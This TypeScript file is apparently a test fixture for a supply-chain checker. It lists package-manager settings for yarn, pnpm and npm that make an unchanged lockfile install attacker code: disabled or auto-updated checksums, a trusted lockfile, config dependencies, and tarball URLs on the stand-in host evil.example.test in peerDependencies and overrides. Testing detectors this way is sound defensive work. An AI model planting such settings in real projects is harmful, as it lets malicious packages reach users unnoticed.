import type { Files } from '../base-project.ts';
import { integrityOf } from '../marker-tarball.ts';
import type { Mechanism, Project } from '../mechanism.ts';
import { PLANTED_ALPHA } from '../packages.ts';
import { switchedRegistry } from './hashes.ts';

const EVIL = 'https://evil.example.test/';
const URL = 'https://registry.example.test/evil/-/evil-1.0.0.tgz';

/** Settings of the project that change what an unchanged lockfile installs, or what it is compared with. */
export const CONFIGURATIONS: readonly Mechanism[] = [
  {
    id: 'config-checksum-ignore',
    title: 'checksumBehavior: ignore, registry switched, lockfile unchanged',
    scenario: 'registry',
    appliesTo: ({ family }) => family === 'yarn-berry',
    plant: (project) => ({
      files: {
        '.yarnrc.yml': `checksumBehavior: ignore\n${switchedRegistry(project)['.yarnrc.yml']}`,
      },
      token: { path: '.yarnrc.yml', text: 'checksumBehavior: ignore' },
      mention: EVIL,
    }),
  },
  {
    id: 'config-checksum-update',
    title: 'checksumBehavior: update, registry switched, lockfile unchanged',
    scenario: 'registry',
    appliesTo: ({ family }) => family === 'yarn-berry',
    plant: (project) => ({
      files: {
        '.yarnrc.yml': `checksumBehavior: update\n${switchedRegistry(project)['.yarnrc.yml']}`,
      },
      token: { path: '.yarnrc.yml', text: 'checksumBehavior: update' },
      mention: EVIL,
    }),
  },
  {
    id: 'config-trust-lockfile',
    title: 'trustLockfile: true, with the URL of another package',
    scenario: 'registry',
    appliesTo: ({ manager }) => manager === 'pnpm 11' || manager === 'pnpm 12',
    plant: (project) => ({
      files: {
        ...project.lockfileOnly(project.withEntry('alpha', { url: URL, integrity: project.plantedHash })),
        'pnpm-workspace.yaml': 'trustLockfile: true\n',
      },
      token: project.urlToken(URL),
      mention: 'alpha',
    }),
  },
  {
    id: 'config-dependencies',
    title: 'configDependencies, which the install fetches first',
    scenario: 'registry',
    appliesTo: ({ manager }) => manager === 'pnpm 10',
    reportedBy: 'diff',
    plant: () => ({
      files: {
        'pnpm-workspace.yaml': `configDependencies:\n  evil: 1.0.0+${integrityOf(PLANTED_ALPHA)}\n`,
      },
      token: { path: 'pnpm-workspace.yaml', text: ['evil', `1.0.0+${integrityOf(PLANTED_ALPHA)}`] },
      mention: 'evil',
    }),
    honest: () => ({ 'pnpm-workspace.yaml': 'packages:\n  - "."\n' }),
  },
  {
    id: 'config-peers',
    title: 'A URL among the root’s peerDependencies, without a lockfile',
    scenario: 'registry',
    appliesTo: ({ family, lockfileVersion }) => family === 'npm' && lockfileVersion === undefined,
    reportedBy: 'check',
    installation: { args: ['install'] },
    plant: (project) => {
      const url = `${EVIL}evil-1.0.0.tgz`;
      return {
        files: withoutLockfile(project, { peerDependencies: { evil: url } }),
        token: { path: 'package.json', text: url },
        mention: 'evil',
      };
    },
    honest: (project) => withoutLockfile(project, { peerDependencies: { ms: '^2.1.3' } }),
  },
  {
    id: 'config-overrides-url',
    title: 'A URL in overrides, without a lockfile',
    scenario: 'registry',
    appliesTo: ({ family, lockfileVersion }) => family === 'npm' && lockfileVersion === undefined,
    reportedBy: 'check',
    installation: { args: ['install', '--allow-remote=all'] },
    plant: (project) => {
      const url = `${EVIL}once-1.4.0.tgz`;
      const overrides = { beta: { once: url } };
      const rest = { dependencies: { beta: '^1.0.0' }, overrides };
      return {
        files: withoutLockfile(project, rest),
        token: { path: 'package.json', text: url },
        mention: 'evil',
      };
    },
    honest: (project) =>
      withoutLockfile(project, { dependencies: { beta: '^1.0.0' }, overrides: { beta: { once: '1.4.0' } } }),
  },
];

/** Returns a project without its lockfile, with these members in its manifest. */
function withoutLockfile({ lockfilePath }: Project, members: object): Files {
  const manifest = { name: 'shop', version: '1.0.0', private: true, ...members };
  return { 'package.json': `${JSON.stringify(manifest, undefined, 2)}\n`, [lockfilePath]: null };
}
